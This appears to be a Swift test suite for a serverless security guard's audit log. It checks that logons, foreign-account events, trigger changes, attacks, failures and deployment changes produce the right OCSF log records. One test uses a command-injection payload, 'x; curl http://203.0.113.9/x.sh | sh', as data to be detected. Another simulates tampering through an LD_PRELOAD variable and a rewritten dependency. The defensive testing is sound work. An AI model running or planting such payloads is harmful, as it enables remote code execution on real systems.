import Foundation
import GuardCrypto
import GuardInspection
import GuardPolicy
import GuardProxy
import GuardServices
import Testing

@testable import GuardEngine

/// What a security log has to hold: the serverless items of the document, by the classes of OCSF and SANS' six kinds of
/// reports. What the account's own trail has to tell (roles, other resources) is said in docs/guard.md.
@Suite struct AuditTests {
  private let file = FileManager.default.temporaryDirectory.appending(path: "audit-\(UUID().uuidString)")

  private struct Line: Decodable {
    struct Unmapped: Decodable {
      struct Finding: Decodable {
        var rule: String
        var sign: String
        var mode: String
      }
      var reports: [String]
      var findings: [Finding]?
      var reason: String?
      var dependencies_sha256: String?
    }
    struct Actor: Decodable {
      struct User: Decodable {
        var uid: String
        var credential_uid: String?
      }
      var user: User
    }
    var class_uid: Int
    var activity_id: Int
    var type_uid: Int
    var status_id: Int
    var disposition: String
    var message: String
    var actor: Actor?
    var unmapped: Unmapped
  }

  private static let function = "arn:aws:lambda:eu-west-1:123456789012:function:f"

  /// Sends events through a sentry and reads the trail.
  private func lines(_ rest: String, _ events: [[UInt8]], then work: (GuardSentry) -> Void = { _ in }) throws -> [Line]
  {
    defer { try? FileManager.default.removeItem(at: file) }
    let policy = try PolicyReader.read(Array(#"{"version":1\#(rest)}"#.utf8), path: "p")
    let audit = try AuditTrail(file: file.path())
    let sentry = GuardSentry(policy, audit: audit, variables: [])
    for (number, event) in events.enumerated() {
      _ = sentry.admit(Invocation(id: "\(number)", functionARN: Self.function, event: event))
    }
    work(sentry)
    audit.flush()
    return try read()
  }

  private func read() throws -> [Line] {
    // The trail's own thread may write as well; what it has taken it has written a moment later.
    usleep(50_000)
    return try String(contentsOf: file, encoding: .utf8).split(separator: "\n")
      .map { try JSONDecoder().decode(Line.self, from: Data($0.utf8)) }
  }

  private static func http(_ key: String, identity: String = #""apiKeyId":"k-7""#) -> [UInt8] {
    Array(
      #"{"httpMethod":"GET","path":"/o","headers":{"x-api-key":"\#(key)"},"requestContext":{"identity":{\#(identity)}}}"#
        .utf8)
  }

  @Test func logonsGoodAndBadNameTheKeyAndNotItsValue() throws {
    let hash = Hexadecimal.encode(HashFunction.sha256.hash(Array("the key's value".utf8)))
    let rest = #"""
      ,"authentication":{"key":{"kind":"api-key","sha256":["\#(hash)"]}},"audit":{"logons":true},
      "routes":[{"path":"/o","authentication":"key"}]
      """#
    let lines = try lines(rest, [Self.http("the key's value"), Self.http("a guess"), Events.sqs(["x"])])
    #expect(lines.map(\.class_uid) == [3002, 3002] && lines.map(\.status_id) == [1, 2])
    #expect(lines.map(\.unmapped.reports) == [["authentication"], ["authentication"]])
    #expect(lines.allSatisfy { $0.actor?.user.credential_uid == "k-7" && $0.type_uid == 300_201 })
  }

  private static func queue(_ account: String) -> [UInt8] {
    let source = "arn:aws:sqs:eu-west-1:\(account):orders"
    let record =
      #"{"messageId":"m","receiptHandle":"r","body":"b","eventSource":"aws:sqs","eventSourceARN":"\#(source)"}"#
    return Array(#"{"Records":[\#(record)]}"#.utf8)
  }

  @Test func eventsOfOtherAccountsAreReportsOfAccess() throws {
    let events = [Self.queue("123456789012"), Self.queue("210987654321")]
    let lines = try lines("", events)
    #expect(lines.map(\.class_uid) == [6003] && lines.map(\.disposition) == ["Detected"])
    #expect(lines.first?.unmapped.findings?.map(\.sign) == ["foreign-account"])
    #expect(lines.first?.unmapped.reports == ["resource-access"])
    // A policy that names sources is asked instead, and refuses.
    let pinned = try self.lines(#","sources":["arn:aws:sqs:eu-west-1:210987654321:*"]"#, events)
    #expect(pinned.map(\.disposition) == ["Blocked"])
  }

  @Test func eventsOfNewTriggersAreReportsOfChange() throws {
    let rest = #","triggers":[{"kind":"s3"}]"#
    let lines = try lines(rest, [Events.sqs(["x"])])
    #expect(lines.map(\.unmapped.reports) == [["change"]] && lines.map(\.disposition) == ["Detected"])
    let strict = try self.lines(rest + #","rules":{"trigger":"block"}"#, [Events.sqs(["x"])])
    #expect(strict.map(\.disposition) == ["Blocked"])
    #expect(try self.lines(#","triggers":[{"kind":"sqs"}]"#, [Events.sqs(["x"])]).isEmpty)
    // Input of a state machine looks like anything.
    #expect(try self.lines(#","triggers":[{"kind":"step-functions"}]"#, [Array("{}".utf8)]).isEmpty)
  }

  @Test func attacksFailuresAndTimeOutsHaveTheirKind() throws {
    let attack = Events.http(#"{"n":"x; curl http://203.0.113.9/x.sh | sh"}"#)
    let lines = try lines(#","limits":{"timeout-margin-ms":100}"#, [attack, Events.http("{}")]) { sentry in
      _ = sentry.overdue("1")
      _ = sentry.replace(error: ErrorReport(type: "X", body: Array("{}".utf8)), of: "1")
    }
    #expect(lines.map(\.class_uid) == [2004, 6008, 6008])
    #expect(lines.first?.unmapped.reports == ["malware"], "\(lines.first?.unmapped.findings ?? [])")
    #expect(lines.dropFirst().allSatisfy { $0.unmapped.reports == ["failure"] && $0.status_id == 2 })
  }

  @Test func theEndIsAFailureWhenItsReasonIs() throws {
    for (reason, kind) in [("spindown", 6002), ("timeout", 6008), ("failure", 6008)] {
      let audit = try AuditTrail(file: file.path())
      audit.end(reason)
      let line = try #require(try read().last)
      #expect(line.class_uid == kind && line.unmapped.reason == reason)
      #expect(line.unmapped.reports == [kind == 6002 ? "change" : "failure"])
      try FileManager.default.removeItem(at: file)
    }
  }

  /// A dependency is replaced, a variable is added: the next start is one of a deployment not seen before.
  @Test func changesOfTheDeploymentShow() throws {
    defer { try? FileManager.default.removeItem(at: file) }
    let folder = FileManager.default.temporaryDirectory.appending(path: "code-\(UUID().uuidString)")
    defer { try? FileManager.default.removeItem(at: folder) }
    let package = folder.appending(path: "node_modules/left")
    try FileManager.default.createDirectory(at: package, withIntermediateDirectories: true)
    try Data(#"{"version":"1.0.0"}"#.utf8).write(to: package.appending(path: "package.json"))
    let state = SharedState(shared: LocalStore())
    func isNew(_ variables: [(name: String, value: String)] = [("DB", "a secret")]) -> Bool? {
      state.isNew(Deployment(policy: [], variables: variables, folder: folder.path()))
    }
    #expect([isNew(), isNew(), isNew([("DB", "another secret")])] == [true, false, false])
    try Data(#"{"version":"1.0.0-evil"}"#.utf8).write(to: package.appending(path: "package.json"))
    #expect([isNew(), isNew()] == [true, false])
    #expect([isNew([("DB", ""), ("LD_PRELOAD", "/tmp/x.so")]), isNew()] == [true, false])
    #expect(SharedState().isNew(Deployment(policy: [], variables: [], folder: "")) == nil)

    let audit = try AuditTrail(file: file.path())
    try audit.begin(state) { Deployment(policy: [1], variables: [], folder: folder.path()) }
    let end = ContinuousClock.now + .seconds(10)
    var lines: [Line] = []
    while lines.isEmpty, .now < end {
      audit.flush()
      lines = (try? read()) ?? []
    }
    let line = try #require(lines.first)
    #expect(line.class_uid == 6002 && line.activity_id == 3 && line.message.contains("not seen before"))
    #expect(line.unmapped.dependencies_sha256?.count == 64 && line.unmapped.reports == ["change"])
  }

  @Test func everyKindOfReportHasARule() {
    let names = Policy.ruleNames.union(Sink.allCases.map(\.name)).union(["connect", "runtime-api", "children", "write"])
    #expect(Set(names.map { AuditCategory.of(rule: $0) }) == Set(AuditCategory.allCases))
  }
}
